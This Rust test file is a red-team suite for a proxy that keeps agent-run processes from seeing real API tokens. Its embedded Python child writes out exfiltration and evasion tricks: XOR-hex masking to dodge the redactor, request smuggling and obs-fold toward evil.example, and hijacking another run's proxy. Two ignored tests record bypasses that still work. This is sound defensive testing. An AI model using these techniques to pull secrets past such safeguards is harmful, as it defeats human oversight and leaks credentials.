//! Red team, session 11, of issue 18 (host-bound injection, `docs/egress.md`): an approved child
//! the agent wrote holds only the placeholder and tries to get the value back from the bound
//! host's answers (compressed, transfer-coded, in trailers, in the reason phrase, in chunk
//! extensions, byte by byte), to read back a value it made the bound host store (in pieces, or
//! by another name of the same server), to slip a request past the tunnel's Host rule (request
//! smuggling, obs-fold, HTTP/1.0) or another variable's placeholder past the watch (a request
//! trailer), and to use another live run's proxy.
//!
//! What the child gets back is written to files XOR-masked and hex-encoded (as an attacker would
//! carry it out: neither the output redactor nor the write-side scan knows that encoding); the
//! test unmasks it and looks for the value.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use super::egress::{
    Seen, authorization, bound_home, fresh_value, read_chunked, read_head, tls_server,
};
use super::harness::*;

/// The value of `name: value` in a request head (name in any case), or "".
pub(crate) fn header(head: &str, name: &str) -> String {
    head.lines()
        .find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.eq_ignore_ascii_case(name).then(|| v.trim().to_owned())
        })
        .unwrap_or_default()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut z = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(data).unwrap();
    z.finish().unwrap()
}

/// `bytes=A-B` or `bytes=A-` applied to `data`.
pub(crate) fn range(data: &[u8], spec: &str) -> Option<Vec<u8>> {
    let (a, b) = spec.strip_prefix("bytes=")?.split_once('-')?;
    let a: usize = a.parse().ok()?;
    let b: usize = if b.is_empty() {
        data.len().checked_sub(1)?
    } else {
        b.parse().ok()?
    };
    data.get(a..=b.min(data.len().checked_sub(1)?))
        .map(<[u8]>::to_vec)
}

/// An HTTPS API on 127.0.0.1 (leaf for `localhost`, HTTP/1.1, one request per connection) that
/// behaves like common APIs do: it honours `Accept-Encoding: gzip` and `TE: gzip`, `Range`,
/// stores what is posted to `/store` and serves it at `/load`, echoes the Authorization header
/// at `/echo` (as error messages do), in a trailer at `/trailer` (as gRPC's `grpc-message`
/// does) and one byte per chunk at `/split`. Returns (port, CA PEM, request heads and bodies).
fn api() -> (u16, String, Seen) {
    let (ca_pem, config) = tls_server(&[]);
    let config = Arc::new(config);
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let seen: Seen = Arc::default();
    let stored: Arc<Mutex<Vec<u8>>> = Arc::default();
    let seen2 = seen.clone();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            let (config, seen, stored) = (config.clone(), seen2.clone(), stored.clone());
            std::thread::spawn(move || {
                let _ = s.set_read_timeout(Some(Duration::from_secs(20)));
                let conn = rustls::ServerConnection::new(config).unwrap();
                let mut tls = rustls::StreamOwned::new(conn, s);
                let head = read_head(&mut tls);
                if head.is_empty() {
                    return;
                }
                let len: usize = header(&head, "content-length").parse().unwrap_or(0);
                let body = if header(&head, "transfer-encoding").contains("chunked") {
                    // A chunked body is read to its end, trailers included, before the
                    // answer: an API that answered first would leave the relay's look at
                    // the trailers to chance (it may stop sending once answered).
                    read_chunked(&mut tls)
                } else {
                    let mut body = vec![0u8; len];
                    let _ = tls.read_exact(&mut body);
                    body
                };
                seen.lock()
                    .unwrap()
                    .push(format!("{head}{}", String::from_utf8_lossy(&body)));
                let path = head.split(' ').nth(1).unwrap_or("").to_owned();
                let auth = authorization(&head);
                let gz = header(&head, "accept-encoding").contains("gzip");
                let te_gz = header(&head, "te").contains("gzip");
                let mut out = Vec::new();
                let mut data: Vec<u8>;
                let mut status = "200 OK";
                let mut extra = String::new();
                match path.as_str() {
                    "/store" => {
                        *stored.lock().unwrap() = body;
                        data = b"stored".to_vec();
                    }
                    "/load" | "/echo" => {
                        data = if path == "/load" {
                            stored.lock().unwrap().clone()
                        } else {
                            // An error page around the echo: enough text that the compressor
                            // codes it (dynamic Huffman), rather than storing it as it is.
                            let page = "your request was not understood by this API\n".repeat(64);
                            format!("ECHO:{auth}\n{page}").into_bytes()
                        };
                        let r = header(&head, "range");
                        if let Some(part) = range(&data, &r) {
                            status = "206 Partial Content";
                            data = part;
                        }
                        if te_gz {
                            let z = gzip(&data);
                            let _ = write!(
                                out,
                                "HTTP/1.1 {status}\r\nTransfer-Encoding: gzip, chunked\r\nConnection: close\r\n\r\n{:x}\r\n",
                                z.len()
                            );
                            out.extend_from_slice(&z);
                            out.extend_from_slice(b"\r\n0\r\n\r\n");
                            let _ = tls.write_all(&out);
                            let _ = tls.flush();
                            tls.conn.send_close_notify();
                            let _ = tls.flush();
                            return;
                        }
                        if gz {
                            data = gzip(&data);
                            extra.push_str("Content-Encoding: gzip\r\n");
                        }
                    }
                    "/trailer" => {
                        let _ = write!(
                            out,
                            "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\nConnection: close\r\n\r\n1\r\nt\r\n0\r\nX-Echo: {auth}\r\n\r\n"
                        );
                        let _ = tls.write_all(&out);
                        let _ = tls.flush();
                        tls.conn.send_close_notify();
                        let _ = tls.flush();
                        return;
                    }
                    "/reason" => {
                        // A status line whose reason phrase echoes the input (as servlet
                        // containers' `sendError(code, message)` did).
                        let _ = write!(
                            tls,
                            "HTTP/1.1 401 not a valid key: {auth}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                        );
                        let _ = tls.flush();
                        tls.conn.send_close_notify();
                        let _ = tls.flush();
                        return;
                    }
                    "/chunkext" => {
                        // The echo in a chunk extension (`1;echo=...`), which no client reads
                        // but a relay could pass on as it is.
                        let ext = auth.replace(' ', "_");
                        let _ = write!(
                            tls,
                            "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n1;echo={ext}\r\nt\r\n0;echo={ext}\r\n\r\n"
                        );
                        let _ = tls.flush();
                        tls.conn.send_close_notify();
                        let _ = tls.flush();
                        return;
                    }
                    "/split" => {
                        let _ = tls.write_all(
                            b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
                        );
                        for b in format!("ECHO:{auth}").bytes() {
                            let _ = write!(tls, "1\r\n{}\r\n", char::from(b));
                            let _ = tls.flush();
                            std::thread::sleep(Duration::from_millis(2));
                        }
                        let _ = tls.write_all(b"0\r\n\r\n");
                        let _ = tls.flush();
                        tls.conn.send_close_notify();
                        let _ = tls.flush();
                        return;
                    }
                    _ => data = b"ok".to_vec(),
                }
                let _ = write!(
                    out,
                    "HTTP/1.1 {status}\r\nContent-Type: text/plain\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n",
                    data.len()
                );
                out.extend_from_slice(&data);
                let _ = tls.write_all(&out);
                let _ = tls.flush();
                tls.conn.send_close_notify();
                let _ = tls.flush();
            });
        }
    });
    (port, ca_pem, seen)
}

/// The approved child: each attempt on its own connection through the run's proxy (TLS to the
/// run's leaf, or its own TLS without checks for another name of the API), what it gets back
/// kept in `NAME.raw.x` (as received), `NAME.head.x`, `NAME.body.x` (de-chunked,
/// decompressed) and `NAME.trailers.x`.
const CHILD: &str = r#"
import os, socket, ssl, gzip
p = os.environ["HTTPS_PROXY"].removeprefix("http://").split(":")
ph = os.environ["API_TOKEN"]
api = "localhost:@API@"
other = os.environ["OTHER_TOKEN"]
open("ph.txt", "w").write(ph)
open("other.txt", "w").write(other)

def keep(name, data):
    open(name + ".x", "w").write(bytes(b ^ 0x55 for b in data).hex())

def tunnel(target):
    s = socket.create_connection((p[0], int(p[1])), timeout=20)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    r = b""
    while b"\r\n\r\n" not in r:
        c = s.recv(1)
        if not c:
            break
        r += c
    return s

def tls(s, verify):
    if verify:
        ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    else:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["http/1.1"])
    return ctx.wrap_socket(s, server_hostname="localhost")

def read_all(t):
    out = b""
    try:
        while True:
            c = t.recv(4096)
            if not c:
                break
            out += c
    except Exception:
        pass
    return out

def parse(r):
    head, _, rest = r.partition(b"\r\n\r\n")
    fields = {}
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        fields[k.strip().lower()] = v.strip().lower()
    trailers = b""
    te = fields.get(b"transfer-encoding", b"")
    if b"chunked" in te:
        body = b""
        while rest:
            line, _, rest = rest.partition(b"\r\n")
            try:
                n = int(line.split(b";")[0].strip() or b"0", 16)
            except ValueError:
                break
            if n == 0:
                trailers = rest
                break
            body += rest[:n]
            rest = rest[n + 2:]
    else:
        body = rest
    if b"gzip" in fields.get(b"content-encoding", b"") or b"gzip" in te:
        try:
            body = gzip.decompress(body)
        except Exception:
            pass
    return head, body, trailers

def attempt(name, target, req, verify=True):
    try:
        t = tls(tunnel(target), verify)
        t.sendall(req.encode())
        r = read_all(t)
        head, body, trailers = parse(r)
        keep(name + ".raw", r)
        keep(name + ".head", head)
        keep(name + ".body", body)
        keep(name + ".trailers", trailers)
        print(name, r.split(b"\r\n")[0].decode(errors="replace"), flush=True)
    except Exception as e:
        print(name, "error", type(e).__name__, flush=True)

auth = "Authorization: Bearer " + ph + "\r\n"
host = "Host: " + api + "\r\n"
close = "Connection: close\r\n\r\n"
# The API echoes the key; the child asks for a compressed answer, or a transfer-coded one.
attempt("gzip", api, "GET /echo HTTP/1.1\r\n" + host + auth + "Accept-Encoding: gzip\r\n" + close)
attempt("tegzip", api, "GET /echo HTTP/1.1\r\n" + host + auth + "TE: gzip\r\n" + close)
# The API echoes the key in a trailer field (the child says it takes trailers).
attempt("trailer", api, "GET /trailer HTTP/1.1\r\n" + host + auth + "TE: trailers\r\n" + close)
# The API echoes the key in its status line's reason phrase.
attempt("reason", api, "GET /reason HTTP/1.1\r\n" + host + auth + close)
# The API echoes the key in chunk extensions.
attempt("chunkext", api, "GET /chunkext HTTP/1.1\r\n" + host + auth + close)
# The API echoes the key one byte per chunk.
attempt("split", api, "GET /split HTTP/1.1\r\n" + host + auth + close)
# The body swap stores the value at the bound host; the child reads it back in two ranges,
# then whole through a plain tunnel to another name of the same server.
body = "note " + ph
attempt("store", api, "POST /store HTTP/1.1\r\n" + host + auth + "Content-Type: text/plain\r\nContent-Length: %d\r\n" % len(body) + close + body)
half = len(body) // 2
attempt("load0", api, "GET /load HTTP/1.1\r\n" + host + auth + "Range: bytes=0-%d\r\n" % (half - 1) + close)
attempt("load1", api, "GET /load HTTP/1.1\r\n" + host + auth + "Range: bytes=%d-\r\n" % half + close)
attempt("byip", "127.0.0.1:@API@", "GET /load HTTP/1.1\r\n" + host + close, verify=False)
# Smuggling: Content-Length and chunked at once, the chunked body ending early and a second
# request naming another origin behind it.
smuggled = "GET /smuggled HTTP/1.1\r\nHost: evil.example\r\n" + auth + close
attempt("tecl", api, "POST /tecl HTTP/1.1\r\n" + host + auth + "Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (5 + len(smuggled)) + smuggled)
# obs-fold: a Host folded onto a second line naming another origin.
attempt("fold", api, "GET /fold HTTP/1.1\r\nHost: " + api + "\r\n evil.example\r\n" + auth + close)
# HTTP/1.0 without Host.
attempt("http10", api, "GET /http10 HTTP/1.0\r\n" + auth + "\r\n")
# Another variable's placeholder in a trailer of a chunked request to API_TOKEN's host.
attempt("othertrailer", api, "POST /othertrailer HTTP/1.1\r\n" + host + "Transfer-Encoding: chunked\r\nTrailer: X-K\r\nConnection: close\r\n\r\n2\r\nhi\r\n0\r\nX-K: " + other + "\r\n\r\n")
print("done", flush=True)
"#;

struct Outcome {
    h: Home,
    value: String,
    placeholder: String,
    other: String,
    api_seen: Seen,
    out: String,
    err: String,
    work: tempfile::TempDir,
}

impl Outcome {
    /// What the child kept of attempt `name` (`head`, `body` or `trailers`), unmasked.
    fn got(&self, name: &str, part: &str) -> Vec<u8> {
        let t = std::fs::read_to_string(self.work.path().join(format!("{name}.{part}.x")))
            .unwrap_or_default();
        hex::decode(t.trim())
            .unwrap_or_default()
            .into_iter()
            .map(|b| b ^ 0x55)
            .collect()
    }

    /// The API's recorded requests whose request line starts with `line_start`.
    fn heads_at(&self, line_start: &str) -> Vec<String> {
        self.api_seen
            .lock()
            .unwrap()
            .iter()
            .filter(|h| h.starts_with(line_start))
            .cloned()
            .collect()
    }
}

fn attack() -> Outcome {
    attack_bound(&[])
}

/// [`attack`] with `API_TOKEN` bound with `extra` flags (`--body`, `--url`).
fn attack_bound(extra: &[&str]) -> Outcome {
    let value = fresh_value();
    let (api, ca_pem, api_seen) = api();
    let h = bound_home(api, &ca_pem, &value);
    if !extra.is_empty() {
        let dest = format!("localhost:{api}");
        let mut args = vec!["policy", "set", "demo", "bind", "API_TOKEN", &dest];
        args.extend_from_slice(extra);
        args.push("--passphrase-stdin");
        let o = h.run_stdin(&args, &format!("{PASS}\n"));
        assert!(o.status.success(), "{}", text(&o.stderr));
    }
    // OTHER_TOKEN is bound elsewhere (nothing listens there).
    h.set("demo", "OTHER_TOKEN", &fresh_value());
    let o = h.run_stdin(
        &[
            "policy",
            "set",
            "demo",
            "bind",
            "OTHER_TOKEN",
            "localhost:1",
            "--passphrase-stdin",
        ],
        &format!("{PASS}\n"),
    );
    assert!(o.status.success(), "{}", text(&o.stderr));
    let work = tempfile::tempdir_in("/tmp").unwrap();
    let script = CHILD.replace("@API@", &api.to_string());
    std::fs::write(work.path().join("child.py"), script).unwrap();
    let o = h.run_approved(
        &[
            "run",
            "--env",
            "demo",
            "--only",
            "API_TOKEN,OTHER_TOKEN",
            "--cwd",
            work.path().to_str().unwrap(),
            "--",
            "python3",
            "child.py",
        ],
        Duration::from_secs(120),
    );
    let placeholder = std::fs::read_to_string(work.path().join("ph.txt")).unwrap_or_default();
    assert_eq!(placeholder.len(), value.len(), "{}", text(&o.stderr));
    assert_ne!(placeholder, value);
    let other = std::fs::read_to_string(work.path().join("other.txt")).unwrap_or_default();
    assert!(!other.is_empty());
    let out = text(&o.stdout);
    assert!(out.contains("done"), "{out}\n{}", text(&o.stderr));
    Outcome {
        h,
        value,
        placeholder,
        other,
        api_seen,
        out,
        err: text(&o.stderr),
        work,
    }
}

/// Whether `hay` holds the value or an encoding the harness knows of it.
pub(crate) fn holds_value(hay: &[u8], value: &str) -> bool {
    encodings(value).iter().any(|e| contains(hay, e))
}

/// An API that echoes the key, asked for a compressed answer (`Accept-Encoding: gzip`, the
/// default of most HTTP clients) or a transfer-coded one (`TE: gzip`): the value inside the
/// compressed bytes is not what the response swap looks for.
#[test]
fn a_compressed_or_transfer_coded_echo_does_not_hand_the_value_to_the_child() {
    let o = attack();
    // The API got the value (the swap worked)...
    let echo = o.heads_at("GET /echo");
    assert_eq!(echo.len(), 2, "{}", o.out);
    for h in &echo {
        assert_eq!(authorization(h), format!("Bearer {}", o.value));
    }
    // ...and the child got no form of it back, compressed or not.
    for name in ["gzip", "tegzip"] {
        let body = o.got(name, "body");
        assert!(
            !holds_value(&body, &o.value),
            "{name}: the child decompressed the value out of the echo"
        );
    }
    // The echo came back as the placeholder, uncompressed (asked for `identity`).
    assert!(
        contains(
            &o.got("gzip", "body"),
            &format!("ECHO:Bearer {}", o.placeholder)
        ),
        "{}",
        o.out
    );
}

/// An API that echoes the key in a trailer field (gRPC's `grpc-message`, a chunked HTTP/1.1
/// response's trailers).
#[test]
fn an_echo_in_a_trailer_does_not_hand_the_value_to_the_child() {
    let o = attack();
    assert_eq!(o.heads_at("GET /trailer").len(), 1, "{}", o.out);
    let trailers = o.got("trailer", "trailers");
    assert!(
        !holds_value(&trailers, &o.value),
        "the child read the value in a response trailer"
    );
    assert!(
        contains(&trailers, &o.placeholder),
        "the trailer came back with the placeholder: {}",
        String::from_utf8_lossy(&trailers).len()
    );
}

/// An echo split into one-byte chunks is swapped back whole (the swap holds a possible start
/// of the value across chunks); one in chunk extensions is not passed on at all.
#[test]
fn an_echo_one_byte_per_chunk_or_in_chunk_extensions_does_not_reach_the_child() {
    let o = attack();
    let body = o.got("split", "body");
    assert!(!holds_value(&body, &o.value));
    // Chunk extensions are not passed on (the proxy frames the body anew).
    assert!(!holds_value(&o.got("chunkext", "raw"), &o.value));
    assert!(
        o.out.contains("chunkext HTTP/1.1 200"),
        "the chunk-extension echo was answered: {}",
        o.out
    );
    assert!(contains(&body, &format!("ECHO:Bearer {}", o.placeholder)));
}

/// Under a default binding (headers only), the placeholder in a body to the bound host is not
/// swapped: the request is cut off and reported, the API never stores the value, and nothing
/// the child reads back (in ranges, or by the server's other name) holds it.
#[test]
fn a_placeholder_in_a_body_to_a_headers_only_binding_is_blocked_and_reported() {
    let o = attack();
    // The API got no body holding the value (its Authorization headers hold it, as bound).
    for h in o.api_seen.lock().unwrap().iter() {
        assert!(
            !contains(h.as_bytes(), &format!("note {}", o.value)),
            "the API stored the value"
        );
    }
    let mut pieces = o.got("load0", "body");
    pieces.extend(o.got("load1", "body"));
    pieces.extend(o.got("byip", "body"));
    assert!(
        !holds_value(&pieces, &o.value),
        "the child read the value back"
    );
    let audit = o.h.audit_text();
    assert!(
        audit.contains("sent in a body; its binding covers headers only (bind with --body)")
            && audit.contains("API_TOKEN"),
        "not reported: {}",
        o.out
    );
    assert!(!contains(audit.as_bytes(), &o.value));
    assert!(o.err.contains("API_TOKEN"), "{}", o.err);
    // The child is told why its request failed, and what to do.
    let store = o.got("store", "raw");
    assert!(
        contains(&store, "hint: send each placeholder only to the host"),
        "{}",
        String::from_utf8_lossy(&store)
    );
}

/// With `bind --body` (the human's choice, for an API that takes the key in a body), the body
/// swap writes the value into whatever the bound host stores (a note, an issue, a chat
/// message, a file): the child reads it back in two ranges through the proxy. Each range holds
/// a part of the value only, which the response swap does not look for.
#[test]
#[ignore = "LIMIT (docs/egress.md, \"bind --body\"): with the body swap asked for, a placeholder in a request body is swapped for the value in any request to the bound host, which stores it (POST /store); two Range reads of the stored note through the proxy each carry a part of the value, which the response swap (whole value only) passes"]
fn a_value_stored_through_the_body_swap_cannot_be_read_back_in_ranges() {
    let o = attack_bound(&["--body"]);
    let stored = o.heads_at("POST /store");
    assert_eq!(stored.len(), 1, "{}", o.out);
    assert!(
        contains(stored[0].as_bytes(), &format!("note {}", o.value)),
        "the API stored the value"
    );
    let mut pieces = o.got("load0", "body");
    pieces.extend(o.got("load1", "body"));
    assert!(
        !holds_value(&pieces, &o.value),
        "two range reads of the stored note give the child the value"
    );
}

/// The same stored note read whole by another name of the same server (`127.0.0.1` for
/// `localhost`; for `api.github.com`, a gist's raw host): a plain tunnel, the child's own TLS,
/// nothing swapped back.
#[test]
#[ignore = "LIMIT (docs/egress.md, \"bind --body\"): with the body swap asked for, the value stored at the bound host (POST /store through localhost:PORT) is read back whole by another name of the same server (CONNECT 127.0.0.1:PORT, a plain tunnel with the child's own TLS): the response is not swapped"]
fn a_value_stored_through_the_body_swap_cannot_be_read_back_by_another_name() {
    let o = attack_bound(&["--body"]);
    assert_eq!(o.heads_at("POST /store").len(), 1, "{}", o.out);
    assert!(
        !holds_value(&o.got("byip", "body"), &o.value),
        "the stored note read by the server's other name gives the child the value"
    );
}

/// Request smuggling (Content-Length with chunked), an obs-folded Host and an HTTP/1.0 request
/// without Host, inside the tunnel to the bound host: none reaches it naming another origin or
/// without naming it.
#[test]
fn smuggling_obs_fold_and_http10_do_not_pass_the_host_rule() {
    let o = attack();
    let seen = o.api_seen.lock().unwrap().clone();
    for h in &seen {
        assert!(
            !h.to_ascii_lowercase().contains("evil.example"),
            "the bound host got a request naming another origin (line: {:?})",
            h.lines().next()
        );
    }
    // The smuggled request never reached the API as a request of its own.
    assert!(o.heads_at("GET /smuggled").is_empty(), "{}", o.out);
    assert!(o.heads_at("GET /fold").is_empty(), "{}", o.out);
    assert!(o.heads_at("GET /http10").is_empty(), "{}", o.out);
    for name in ["fold", "http10"] {
        let line = o
            .out
            .lines()
            .find(|l| l.starts_with(&format!("{name} ")))
            .unwrap_or_default();
        assert!(
            line.contains(" 400") || line.contains(" 403") || line.contains("error"),
            "{name} was answered: {line}"
        );
    }
    // Nothing of the value in the audit or the home; the run's report names no value either.
    assert!(!holds_value(&o.h.all_plain_files(), &o.value));
    assert!(!contains(o.err.as_bytes(), &o.value));
}

/// Another variable's placeholder in a trailer of a chunked request to a bound host is seen,
/// reported and the request cut off, like one in the body.
#[test]
fn another_variables_placeholder_in_a_request_trailer_is_blocked_and_reported() {
    let o = attack();
    for h in o.api_seen.lock().unwrap().iter() {
        assert!(!contains(h.as_bytes(), &o.other));
    }
    let audit =
        o.h.audit_text_with("sent in a trailer, not bound to this host");
    assert!(
        audit.contains("sent in a trailer, not bound to this host")
            && audit.contains("OTHER_TOKEN"),
        "not reported: {}",
        o.out
    );
    assert!(!contains(audit.as_bytes(), &o.other));
    assert!(o.err.contains("OTHER_TOKEN"), "{}", o.err);
}

/// An API that echoes the key in the reason phrase of its status line: HTTP/1.1 keeps a reason
/// phrase that is not the standard one, and passes it on.
#[test]
fn an_echo_in_the_reason_phrase_does_not_hand_the_value_to_the_child() {
    let o = attack();
    assert_eq!(o.heads_at("GET /reason").len(), 1, "{}", o.out);
    let head = o.got("reason", "head");
    assert!(
        !holds_value(&head, &o.value),
        "the child read the value in the status line"
    );
    assert!(
        contains(&head, &o.placeholder),
        "the reason phrase came back with the placeholder"
    );
}

/// A granted child of one run (run A, approved for its own command) uses the proxy of another
/// live run (run B) with B's placeholder, both read from B's files (or its `/proc/PID/environ`):
/// B's proxy serves only B's tree, so A's connection is closed before a byte is read.
#[test]
fn a_child_of_another_run_cannot_use_a_runs_proxy() {
    let value = fresh_value();
    let (api, ca_pem, api_seen) = api();
    let h = bound_home(api, &ca_pem, &value);
    let work = tempfile::tempdir_in("/tmp").unwrap();
    let wd = work.path().to_str().unwrap();
    let b = h.spawn_run(&[
        "run",
        "--env",
        "demo",
        "--only",
        "API_TOKEN",
        "--cwd",
        wd,
        "--",
        "sh",
        "-c",
        "printf '%s' \"$API_TOKEN\" > bph.txt; printf '%s\\n' \"$HTTPS_PROXY\" > b.tmp && mv b.tmp b.txt; sleep 60",
    ]);
    let id = h.wait_request();
    assert!(h.approve(id, &[]).status.success());
    let t0 = std::time::Instant::now();
    while !work.path().join("b.txt").exists() {
        assert!(
            t0.elapsed() < Duration::from_secs(30),
            "run B never started"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let child = format!(
        r#"
import socket, ssl
p = open("b.txt").read().strip().removeprefix("http://").split(":")
ph = open("bph.txt").read()
try:
    s = socket.create_connection((p[0], int(p[1])), timeout=10)
    s.sendall(b"CONNECT localhost:{api} HTTP/1.1\r\nHost: localhost:{api}\r\n\r\n")
    r = s.recv(200)
    print("A-CONNECT", repr(r.split(b"\r\n")[0]), flush=True)
    if r:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        t = ctx.wrap_socket(s, server_hostname="localhost")
        t.sendall(("GET /echo HTTP/1.1\r\nHost: localhost:{api}\r\nAuthorization: Bearer " + ph + "\r\nConnection: close\r\n\r\n").encode())
        print("A-REPLY", len(t.recv(4096)), flush=True)
except Exception as e:
    print("A-ERROR", type(e).__name__, flush=True)
print("done", flush=True)
"#
    );
    std::fs::write(work.path().join("a.py"), child).unwrap();
    let a = h.run_approved(
        &[
            "run",
            "--env",
            "demo",
            "--only",
            "API_TOKEN",
            "--cwd",
            wd,
            "--",
            "python3",
            "a.py",
        ],
        Duration::from_secs(60),
    );
    let out = text(&a.stdout);
    assert!(out.contains("done"), "{out}\n{}", text(&a.stderr));
    assert!(
        out.contains("A-CONNECT b''") || out.contains("A-ERROR"),
        "{out}"
    );
    assert!(api_seen.lock().unwrap().is_empty(), "the API was reached");
    assert!(
        h.audit_text_with("\"egress_refused\"")
            .contains("\"egress_refused\"")
    );
    h.ok(&["revoke", "--all"]);
    let _ = wait_output(b, Duration::from_secs(30));
}
